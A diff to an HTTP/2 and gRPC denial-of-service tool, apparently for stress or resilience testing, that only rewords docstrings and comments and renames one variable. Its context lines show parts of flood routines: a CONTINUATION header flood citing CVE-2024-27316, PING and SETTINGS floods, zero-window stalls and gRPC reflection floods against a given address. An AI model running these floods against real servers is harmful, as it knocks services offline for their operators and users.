@@ -30,7 +30,7 @@ _READ_BYTES = 1 << 16
 # Frames are made this many streams at a time, and no more are kept unsent for a connection.
 _BURST = 64
 _PAUSE_S = 0.05
-# All peers can send, and none has anything to send by now.
+# All peers can send, and none has anything to send now.
 _NOTHING_TO_DO_S = 0.005
 
 
@@ -76,7 +76,7 @@ class Peer:
 
     Attributes:
         outgoing: bytes to send.
-        reads: whether it reads what comes.
+        reads: whether it reads incoming bytes.
     """
 
     def __init__(self, sock: socket.socket, kind: str, path: str) -> None:
@@ -104,7 +104,7 @@ class Peer:
 
 
 def _silent(peer: Peer) -> None:
-    """Nothing after the connection is made."""
+    """Open the connection, then send nothing."""
 
 
 def _preface(peer: Peer) -> None:
@@ -153,7 +153,7 @@ def _large_headers(peer: Peer) -> None:
 
 
 def _continuation(peer: Peer) -> None:
-    """Headers that go on for all time (CVE-2024-27316)."""
+    """Headers without an end (CVE-2024-27316)."""
     peer.outgoing += HELLO
     number = peer.stream()
     peer.outgoing += frame(HEADERS, END_STREAM, number, peer.block)
@@ -175,7 +175,7 @@ def _in_frames(peer: Peer, block: bytes, ends: bool) -> None:
 
 
 def _pings(peer: Peer) -> None:
-    """PING after PING, none of whose answers is read."""
+    """PING after PING, without reading the answers."""
     peer.outgoing += HELLO
     peer.reads = False
     burst = frame(PING, 0, 0, b"12345678") * _BURST
@@ -187,7 +187,7 @@ def _pings(peer: Peer) -> None:
 
 
 def _settings_flood(peer: Peer) -> None:
-    """SETTINGS after SETTINGS, none of whose acknowledgements is read."""
+    """SETTINGS after SETTINGS, without reading the acknowledgements."""
     peer.outgoing += HELLO
     peer.reads = False
     burst = settings((INITIAL_WINDOW_SIZE, 1)) * _BURST
@@ -213,7 +213,7 @@ def _drip(peer: Peer) -> None:
 
 
 def _unread(peer: Peer) -> None:
-    """Calls without a request, none of whose answers may be sent: the window is nothing."""
+    """Calls without a request, with a window of 0, so that no answer can be sent."""
     peer.outgoing += PREFACE + settings((INITIAL_WINDOW_SIZE, 0))
     peer.reads = False
 
@@ -226,7 +226,7 @@ def _unread(peer: Peer) -> None:
 
 
 def _reflection(peer: Peer) -> None:
-    """Requests of reflection in one stream, each for a file of descriptors, none of which is read."""
+    """Requests of reflection in one stream, each for a file of descriptors, without reading the answers."""
     peer.outgoing += PREFACE + settings((INITIAL_WINDOW_SIZE, 0))
     peer.block = header_block("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
     number = peer.open_stream()
@@ -328,7 +328,7 @@ class Attack:
         count: of connections that are kept open.
         path: of the calls.
         bytes_max: to send in all; then the connections are kept and send nothing more.
-        rate: bytes a second to send and receive in all; None as fast as it goes.
+        rate: bytes a second to send and receive in all; None: without a limit.
     """
 
     peer_kind: type[Peer] = Peer
@@ -373,7 +373,7 @@ class Attack:
         self._selector.close()
 
     def _is_paced(self, now: float) -> bool:
-        """Whether it has sent, and made the other end send, as many bytes as it may by now."""
+        """Whether sent and received bytes have reached the limit at this time."""
         return self._rate is not None and self.sent + self.received > (now - self._began) * self._rate
 
     def _open(self, now: float) -> None:
@@ -437,7 +437,7 @@ class Attack:
 
 
 def main() -> None:
-    """Attack as the arguments say."""
+    """Attack by the arguments of the command line."""
     kind, address, count, seconds = sys.argv[1:5]
     path = sys.argv[5] if len(sys.argv) > 5 else DEFAULT_PATH
     bytes_max = float(sys.argv[6]) if len(sys.argv) > 6 else float("inf")
@@ -446,9 +446,9 @@ def main() -> None:
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     attack = Attack(kind, address, int(count), path, bytes_max, rate)
     attack.run(time.monotonic() + float(seconds), lambda: print("up", flush=True))
-    told = {"open": len(attack.peers), "closed": attack.closed, "sent": attack.sent, "opened": attack.opened}
+    report = {"open": len(attack.peers), "closed": attack.closed, "sent": attack.sent, "opened": attack.opened}
     attack.close()
-    print(json.dumps(told), flush=True)
+    print(json.dumps(report), flush=True)
 
 
 if __name__ == "__main__":
